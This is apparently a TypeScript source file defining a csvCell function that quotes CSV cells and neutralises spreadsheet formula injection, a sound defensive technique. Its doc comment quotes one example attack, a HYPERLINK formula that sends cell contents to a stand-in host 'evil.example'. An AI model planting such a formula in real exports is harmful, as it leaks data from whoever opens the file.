import { showValue } from "@seaworthy/core/options";

// What spreadsheets take for the beginning of a formula, in full width too, also after blanks.
const FORMULA = /^[\s\0]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;
// As long as what JavaScript writes, and a few digits more.
const NUMBER = /^[+-]?\d{1,40}(?:\.\d{1,40})?(?:e[+-]?\d{1,3})?$/i;
const NEEDS_QUOTES = /[",;\t\r\n]|^ | $/;

/**
 * One cell of a CSV file (RFC 4180), quoted where it must be, that no spreadsheet takes for a formula.
 *
 * Prevents CSV injection (CWE-1236): a name such as `=HYPERLINK("https://evil.example?"&A1)` runs when an export is
 * opened. Text that begins like a formula gets a `'` in front, which spreadsheets do not show; numbers, also in text,
 * stay numbers. NUL characters are dropped. `null`, `undefined` and NaN are an empty cell, dates are ISO 8601.
 *
 * @throws TypeError when the value is an object, a function or a symbol
 * @example
 * ```ts
 * import { csvCell } from "@seaworthy/validators";
 * console.log([7, "a,b", "=1+1", "-5"].map(csvCell).join(",")); // 7,"a,b",'=1+1,-5
 * ```
 */
export function csvCell(value: unknown): string {
  const text = cellText(value);
  const safe = FORMULA.test(text) && typeof value !== "bigint" && !NUMBER.test(text) ? `'${text}` : text;
  return NEEDS_QUOTES.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
}

function cellText(value: unknown): string {
  if (value === null || value === undefined) return "";
  if (typeof value === "number") return Number.isNaN(value) ? "" : String(value);
  if (typeof value === "string") return value.replaceAll("\0", "");
  if (typeof value === "boolean" || typeof value === "bigint") return String(value);
  if (value instanceof Date) return Number.isNaN(value.getTime()) ? "" : value.toISOString();
  throw new TypeError(`value must be text, a number, a boolean, a date or nothing; got ${showValue(value)}`);
}
